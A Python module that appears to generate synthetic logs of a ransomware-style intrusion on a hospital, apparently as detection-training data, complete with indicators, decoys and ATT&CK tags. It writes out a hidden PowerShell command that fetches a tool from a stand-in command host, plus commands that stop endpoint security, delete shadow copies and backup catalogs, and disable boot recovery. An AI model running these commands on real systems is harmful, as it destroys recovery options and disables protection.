"""The attack inside the sample day, in the order of the Osaka and Handa cases.

A meal vendor's VPN account is used at night from an address never seen before; from the pool the hospital is
scanned; a remote desktop session opens the meal server; it fetches a tool through the proxy and calls home every
minute; with the administrator's password, the same everywhere, the intruder goes on to the record and image
servers; before dawn the security tool is stopped and the shadow copies are deleted.
"""
import hashlib

from . import edge, squid, windows, zeek
from .core import MINUTE_MS, Rng
from .hospital import GATE_WAN, PROXY, VPN_POOL, by_role

C2_DOMAIN = "cdn.weather-sync.example"
C2_ADDRESS = "198.51.100.23"
TOOL_URL = "http://198.51.100.23:8080/t/upd7.dat"
VPN_ADDRESS = "203.0.113.77"
TOOL_SHA256 = hashlib.sha256(b"sample day tool").hexdigest()
TOOL_MD5 = hashlib.md5(b"sample day tool").hexdigest()
C2_JA3 = hashlib.md5(b"sample day client").hexdigest()
VENDOR_USER = "kyushoku-hoshu"
POOL = VPN_POOL % 21
TOOL = "C:\\PerfLogs\\upd7.exe"

# value, type, source, TLP, note
INDICATORS = [
    (C2_DOMAIN, "domain", "sample", "green", "見本の指令サーバー / sample: command server"),
    (C2_ADDRESS, "ip", "sample", "green", "見本の指令サーバーの番地 / sample: address of the command server"),
    (VPN_ADDRESS, "ip", "sample", "amber", "見本：他院でも使われたVPN接続元 / sample: VPN source seen at another hospital"),
    (TOOL_URL, "url", "sample", "green", "見本の不正プログラムの入手先 / sample: where the tool came from"),
    (TOOL_SHA256, "sha256", "sample", "green", "見本の不正プログラム / sample: the tool"),
    (C2_JA3, "ja3", "sample", "green", "見本の不正プログラムの通信の特徴 / sample: TLS client of the tool"),
]
# Never seen in the day: a match on any of these is a false one.
DECOYS = [
    ("weather-sync.test", "domain", "sample", "green", "decoy: same label under another name"),
    ("dn.weather-sync.example", "domain", "sample", "green", "decoy: a substring of a name that is seen"),
    ("198.51.100.2", "ip", "sample", "green", "decoy: a prefix of an address that is seen"),
    ("http://198.51.100.23:8080/t/upd7.da", "url", "sample", "green", "decoy: a prefix of a URL that is seen"),
]
EXPIRED = ("www.hinode-hp.example", "domain", "sample", "green", "decoy: expired, and seen all day")


def indicator_csv():
    rows = ["value,type,source,tlp,expires,note"]
    rows += ["%s,%s,%s,%s,2099-12-31T00:00:00Z,%s" % row for row in ((v, t, s, p, n) for v, t, s, p, n in
                                                                     INDICATORS + DECOYS)]
    rows.append("%s,%s,%s,%s,2020-01-01T00:00:00Z,%s" % EXPIRED)
    return "\n".join(rows) + "\n"


class Scene:
    """What every step of the attack needs at hand."""

    def __init__(self, book, hospital, day_ms):
        self.book, self.hospital = book, hospital
        self.start = day_ms + 118 * MINUTE_MS
        self.rng = Rng(hospital.seed, "attack")
        self.meal = by_role(hospital, "meal")
        self.record = by_role(hospital, "ehr-ap")
        self.story = []
        self.day_ms = day_ms

    def zeek(self, kind):
        return zeek.sink_of(self.book, kind, self.day_ms)

    def at(self, minutes, seconds=0.0):
        return self.start + int(minutes * MINUTE_MS + seconds * 1000)

    def tell(self, at_ms, machine, technique, ja, en):
        self.story.append({"at_ms": at_ms, "machine": machine, "technique": technique, "ja": ja, "en": en})


def tries(scene):
    """Wrong passwords at the VPN, and a look at the branch's router."""
    log, rng = scene.book.sink(edge.FORTIGATE_PATH), scene.rng
    for n, user in enumerate(["admin", "vpn", "kyushoku", "test", "hoshu", VENDOR_USER]):
        at = scene.at(0, 14 * n + rng.below(5))
        log.add(at, edge.vpn_fail(at, (VPN_ADDRESS, user, "N/A"), "sslvpn_login_unknown_user" if n < 5 else
                                  "sslvpn_login_permission_denied"), [(VPN_ADDRESS, edge.DEVNAME, VPN_ADDRESS)])
    router = scene.book.sink(edge.YAMAHA_PATH)
    for n in range(6):
        at = scene.at(3, 7 * n)
        router.add(at, edge.yamaha_rejected(at, VPN_ADDRESS, 41000 + n, (22, 23, 443, 3389, 445, 8080)[n]),
                   [(VPN_ADDRESS, edge.RTX_WAN, VPN_ADDRESS)])
    scene.tell(scene.at(0), "fw01", "T1110", "VPN装置で深夜に認証失敗が続く", "wrong passwords at the VPN by night")


def enters(scene):
    """The vendor's account, from an address never seen before."""
    log = scene.book.sink(edge.FORTIGATE_PATH)
    account = (VPN_ADDRESS, VENDOR_USER, "vendor-meal")
    at = scene.at(12, 14)
    log.add(at - 900, edge.traffic_line(at - 900, (VPN_ADDRESS, 50122, "wan1", "Netherlands"),
                                        (GATE_WAN, 10443, "root", "Reserved"), ("accept", 0), (52000, 88000),
                                        subtype="local"), [(VPN_ADDRESS, GATE_WAN, VPN_ADDRESS)])
    log.add(at, edge.vpn_up(at, account, POOL), [(VPN_ADDRESS, edge.DEVNAME, VPN_ADDRESS)])
    end = scene.at(285)
    log.add(end, edge.vpn_down(end, account, POOL, (end - at) // 1000, (48211007, 913370021)),
            [(VPN_ADDRESS, edge.DEVNAME, VPN_ADDRESS)])
    scene.tell(at, "fw01", "T1133", "給食業者の保守アカウントが海外からVPN接続",
               "the meal vendor's account signs in from abroad")


def scans(scene):
    """From the VPN pool over the servers' network: who answers on file sharing and remote desktop?"""
    log, conns, rng = scene.book.sink(edge.FORTIGATE_PATH), scene.zeek("conn"), scene.rng
    alive = {h.ip for h in scene.hospital.servers}
    at = scene.at(15)
    for last in range(1, 255):
        for port in (445, 3389, 135):
            target = "172.16.1.%d" % last
            source, open_port = (POOL, 49152 + rng.below(16000)), target in alive
            at += 60 + rng.below(90)
            state = "SF" if open_port and port != 3389 else "REJ" if open_port else "S0"
            conns.add(at, zeek.conn(rng, at, source, (target, port), state, (120, 90)))
            if last % 4 == 0:
                log.add(at, edge.traffic_line(at, source + ("ssl.root", "Reserved"),
                                              (target, port, "clinical", "Reserved"),
                                              ("close" if open_port else "timeout", 12), (120, 90)))
    scene.tell(scene.at(15), "fw01", "T1046", "VPN接続元から院内サーバーへの探索", "the servers' network is scanned")


def opens_meal_server(scene):
    """Remote desktop to the meal server; the tool is fetched and started."""
    rng, meal = scene.rng, scene.meal
    log, beats = scene.book.sink(windows.SECURITY_PATH), scene.book.sink(windows.SYSMON_PATH)
    for n in range(4):
        at = scene.at(24, 9 * n)
        windows.security(log, rng, at, meal, 4625, windows.failed_logon(rng, "Administrator", POOL, 10))
    at = scene.at(26)
    scene.zeek("conn").add(at, zeek.conn(rng, at, (POOL, 51877), (meal.ip, 3389), "SF", (9000000, 61000000), "ssl,rdp"))
    windows.security(log, rng, at, meal, 4624, windows.logon(rng, "Administrator", POOL, 10))
    windows.security(log, rng, at, meal, 4672, {"SubjectUserName": "Administrator", "SubjectDomainName": meal.name})
    scene.tell(at, meal.name, "T1021.001", "給食サーバーへのリモート接続", "remote desktop to the meal server")
    at = scene.at(33)
    windows.process(beats, rng, at - 4000, meal, windows.SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell -nop -w hidden -c iwr %s -Proxy http://10.20.0.10:3128 -OutFile %s" % (TOOL_URL, TOOL),
                    "C:\\Windows\\explorer.exe", meal.name + "\\Administrator")
    run_tool(scene, meal, scene.at(34, 20))


def run_tool(scene, host, at):
    windows.process(scene.book.sink(windows.SYSMON_PATH), scene.rng, at, host, TOOL, TOOL + " -s",
                    windows.SYSTEM32 + "services.exe", hashes="MD5=%s,SHA256=%s" % (TOOL_MD5.upper(), TOOL_SHA256.upper()),
                    marks=[(TOOL_SHA256, windows.full(host), TOOL)])


def proxy_steps(scene):
    """The download and the beacons, as the proxy and the mirror port saw them."""
    sink, meal = scene.book.sink(squid.PATH), scene.meal
    for n in range(3):
        at = scene.at(33, 11 * n)
        sink.add(at, squid.line(at, 812 + n, meal.ip, "TCP_MISS/200", 618496 + n, "GET", TOOL_URL, "-",
                                "HIER_DIRECT/" + C2_ADDRESS, "application/octet-stream"),
                 [(TOOL_URL, meal.ip, TOOL_URL), (C2_ADDRESS, meal.ip, C2_ADDRESS)])
    scene.tell(scene.at(33), meal.name, "T1105", "給食サーバーが外部から不審なファイルを取得", "meal server fetches a tool")
    direct_tries(scene, meal)
    beacon(scene, meal, (scene.at(35), scene.at(282)), 60000, 0.2)
    beacon(scene, scene.record, (scene.at(84), scene.at(280)), 300000, 0.1)
    scene.tell(scene.at(35), meal.name, "T1071.001", "給食サーバーが外部の指令先と1分ごとに通信",
               "meal server calls its command host every minute")


def direct_tries(scene, host):
    """Before it finds the proxy, the tool tries the straight way, which the FortiGate refuses."""
    log, rng = scene.book.sink(edge.FORTIGATE_PATH), scene.rng
    for n in range(4):
        at = scene.at(34, 25 + 5 * n)
        scene.zeek("dns").add(at, zeek.dns(rng, at, host.ip, C2_DOMAIN, C2_ADDRESS),
                              [(C2_DOMAIN, host.ip, C2_DOMAIN), (C2_ADDRESS, host.ip, C2_ADDRESS)])
        scene.zeek("conn").add(at + 30, zeek.conn(rng, at + 30, (host.ip, 50100 + n), (C2_ADDRESS, 443), "S0"),
                               [(C2_ADDRESS, host.ip, C2_ADDRESS)])
        log.add(at + 50, edge.traffic_line(at + 50, (host.ip, 50100 + n, "clinical", "Reserved"),
                                           (C2_ADDRESS, 443, "wan1", "Netherlands"), ("deny", 0)),
                [(C2_ADDRESS, host.ip, C2_ADDRESS)])


def beacon(scene, host, span, period_ms, share):
    sink, hello, rng = scene.book.sink(squid.PATH), scene.zeek("ssl"), scene.rng
    at, end = span
    while at < end:
        took = 240 + rng.below(90)
        sink.add(at, squid.connect_line(at, host.ip, C2_DOMAIN, "-", took, 3120 + rng.below(40), C2_ADDRESS),
                 [(C2_DOMAIN, host.ip, C2_DOMAIN), (C2_ADDRESS, host.ip, C2_ADDRESS)])
        hello.add(at - took, zeek.ssl(rng, at - took, host.ip, (PROXY, 3128), C2_DOMAIN, C2_JA3),
                  [(C2_DOMAIN, host.ip, C2_DOMAIN), (C2_JA3, host.ip, C2_DOMAIN)])
        at += rng.jitter(period_ms, share)


def goes_on(scene):
    """The same administrator's password opens the record, image and backup servers."""
    rng, meal = scene.rng, scene.meal
    log, beats = scene.book.sink(windows.SECURITY_PATH), scene.book.sink(windows.SYSMON_PATH)
    for n, role in enumerate(["file", "ehr-ap", "pacs", "backup", "ehr-db"]):
        host = by_role(scene.hospital, role)
        at = scene.at(67 + 3 * n)
        for k in range(3):
            windows.security(log, rng, at + 2000 * k, host, 4625,
                             windows.failed_logon(rng, "Administrator", meal.ip, 3, meal.name))
        at += 9000
        windows.security(log, rng, at, host, 4624, windows.logon(rng, "Administrator", meal.ip, 3, meal.name))
        scene.zeek("conn").add(at, zeek.conn(rng, at, (meal.ip, 50500 + n), (host.ip, 445), "SF",
                                             (700000, 90000), "gssapi,smb,dce_rpc,ntlm"))
        windows.service_installed(beats, rng, at + 2000, host, "upd7svc", "%SystemRoot%\\upd7.exe")
    run_tool(scene, scene.record, scene.at(83))
    scene.tell(scene.at(67), "FILE01 EHR-AP01 PACS01 BACKUP01 EHR-DB01", "T1021.002",
               "同じ管理者パスワードで基幹サーバーへ侵入拡大", "on to the core servers with the same password")


def before_dawn(scene):
    """The security tool is stopped and the shadow copies are deleted; then the printers speak."""
    rng, beats, shell = scene.rng, scene.book.sink(windows.SYSMON_PATH), windows.SYSTEM32 + "cmd.exe"
    for n, role in enumerate(["meal", "ehr-ap", "ehr-db", "pacs", "backup", "file"]):
        host, at = by_role(scene.hospital, role), scene.at(247 + n)
        for k, (image, command) in enumerate(LAST_COMMANDS):
            windows.process(beats, rng, at + 1500 * k, host, windows.SYSTEM32 + image, command, shell,
                            host.name + "\\Administrator")
        windows.service_state(beats, rng, at + 1000, host, "Mamoru Endpoint Security", "停止")
        windows.winlogbeat(beats, rng, at + 1200, host, "Microsoft-Windows-Windows Defender", 5001,
                           {"Product Name": "Microsoft Defender ウイルス対策"},
                           "リアルタイム保護は無効になっています。")
    scene.tell(scene.at(247), "KYUSHOKU01 EHR-AP01 EHR-DB01 PACS01 BACKUP01 FILE01", "T1562.001",
               "ウイルス対策の停止", "the security tool is stopped")
    scene.tell(scene.at(247, 3), "KYUSHOKU01 EHR-AP01 EHR-DB01 PACS01 BACKUP01 FILE01", "T1490",
               "復元用コピーの削除", "shadow copies are deleted")
    for n, printer in enumerate(scene.hospital.printers):
        at = scene.at(272, n)
        scene.zeek("conn").add(at, zeek.conn(rng, at, (scene.record.ip, 51000 + n), (printer.ip, 9100), "SF", (90000, 0)))
    scene.tell(scene.at(272), "PRN", "T1491.001", "多数のプリンターから一斉に印刷", "all printers print at once")


LAST_COMMANDS = [
    ("sc.exe", "sc stop MamoruEndpoint"),
    ("net.exe", "net stop \"Mamoru Endpoint Security\" /y"),
    ("vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    ("wbadmin.exe", "wbadmin delete catalog -quiet"),
    ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
]


STEPS = [tries, enters, scans, opens_meal_server, proxy_steps, goes_on, before_dawn]


def play(book, hospital, day_ms):
    """Every step of the attack on that day; returns the story, in order of time."""
    scene = Scene(book, hospital, day_ms)
    for step in STEPS:
        step(scene)
    return sorted(scene.story, key=lambda row: row["at_ms"])
